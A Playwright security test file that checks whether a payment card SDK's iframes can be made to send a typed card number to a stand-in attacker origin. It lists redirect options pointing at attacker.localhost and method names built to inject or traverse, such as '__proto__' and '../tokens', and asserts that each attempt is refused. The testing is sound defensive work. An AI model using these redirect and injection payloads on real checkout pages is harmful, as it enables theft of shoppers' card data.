import { expect } from '@playwright/test';
import { attackerOrigin, shopOrigin, test, vaultOrigin, type World } from './world/fixtures.ts';
import { prove } from './world/proof.ts';
import { card, hostsThatGot, posts, requestsTo } from './world/shop.ts';

test.describe.configure({ mode: 'parallel' });

/** Every name by which an SDK has ever been told where to go, and what it may do there. */
const elsewhere = {
  apiBaseUrl: attackerOrigin,
  baseUrl: attackerOrigin,
  elementsBaseUrl: attackerOrigin,
  proxyUrl: attackerOrigin,
  telemetryUrl: attackerOrigin,
  assetUrl: attackerOrigin,
  url: attackerOrigin,
  origin: attackerOrigin,
  path: `${attackerOrigin}/tokens`,
  host: 'attacker.localhost',
  headers: { 'BT-PROXY-URL': attackerOrigin },
  environment: 'test',
  debug: true,
  _devMode: true,
  disableTelemetry: false,
  useSameOriginApi: false,
};

/** A frame that was opened by hand, and called and updated with all of that. */
const payByHand = async (world: World): Promise<string[]> => {
  const page = await world.open(shopOrigin);
  const id = await page.evaluate(async (key) => {
    await window.attack.addFrame();
    return window.attack.open('number', frames[0] as Window, { key });
  }, world.accounts.acme.elements);
  await page.frameLocator('iframe').locator('input').pressSequentially(card.number);
  await page.evaluate(
    async ([opening, options]) => {
      const { value } = opening as { value: string };
      const payload = { type: 'card_number', data: { $element: value }, ...options };
      await window.attack.call('number', 'call', 'tokens.create', payload, options);
      await window.attack.call('number', 'update', options);
    },
    [id, elsewhere] as const,
  );
  return hostsThatGot(world, card.number);
};

prove('case 9: an address from the page is not where a number goes, whatever browsers allow', {
  tag: '@firefox',
  lacking: ['a frame connects to its own origin'],
  guard: 'the frame calls its own origin',
  attack: payByHand,
  held: ['vault.localhost'],
  fallen: ['attacker.localhost'],
});

prove('case 9: an address from the page is not where a number goes, were a frame to take one', {
  lacking: ['the frame calls its own origin'],
  guard: 'a frame connects to its own origin',
  attack: payByHand,
  held: [],
  fallen: ['attacker.localhost'],
});

test('case 9: an opening that names addresses is refused', { tag: '@firefox' }, async ({ world }) => {
  const page = await world.open(shopOrigin);
  const opening = await page.evaluate(
    async ([key, options]) => {
      await window.attack.addFrame();
      return window.attack.open('number', frames[0] as Window, { key, options });
    },
    [world.accounts.acme.elements, elsewhere] as const,
  );
  expect(opening).toEqual({ code: 'unknown-option', detail: 'apiBaseUrl' });
});

test('case 9: calls by any other name than the three are refused, and none is made', async ({ world }) => {
  const page = await world.open(shopOrigin);
  const id = await page.evaluate(async (key) => {
    await window.attack.addFrame();
    return window.attack.open('bare', frames[0] as Window, { key });
  }, world.accounts.acme.elements);
  const names = [
    ...['proxy.post', 'client.post', 'tokens.retrieve', 'tokens', 'sessions.create', ''],
    ...['constructor', '__proto__', 'toString', 'hasOwnProperty', `${attackerOrigin}/tokens`, '../tokens'],
  ];
  const endings = await page.evaluate(
    async ([all, opening]) => {
      const payload = { type: 'card_number', data: { $element: (opening as { value: string }).value } };
      return Promise.all(all.map((name) => window.attack.call('bare', 'call', name, payload, {})));
    },
    [names, id] as const,
  );
  expect(endings).toEqual(names.map(() => ({ code: 'method-not-allowed' })));
  expect(posts(world)).toEqual([]);
});

test('case 9: the SDK takes no other origin for its API than the one of its frames', async ({ world }) => {
  const page = await world.open(shopOrigin);
  await page.addScriptTag({ url: `${vaultOrigin}/js/basis-theory.js` });
  const endings = await page.evaluate(
    async ([key, attacker, vault]) => {
      const sdk = (
        window as unknown as { BasisTheory: { constructor: new () => { init(...args: unknown[]): unknown } } }
      ).BasisTheory;
      const init = (urls: object) =>
        window.attack.ending(async () => {
          await new sdk.constructor().init(key, { elements: true, ...urls });
        });
      return [
        await init({ apiBaseUrl: attacker, elementsBaseUrl: vault }),
        await init({ apiBaseUrl: vault, elementsBaseUrl: attacker }),
        await init({ apiBaseUrl: `${vault}:8080`, elementsBaseUrl: vault }),
      ];
    },
    [world.accounts.acme.elements, attackerOrigin, vaultOrigin] as const,
  );
  expect(endings).toEqual(endings.map(() => ({ code: 'base-url-mismatch', detail: expect.any(String) })));
  expect(requestsTo(world, 'attacker.localhost')).toEqual([]);
});
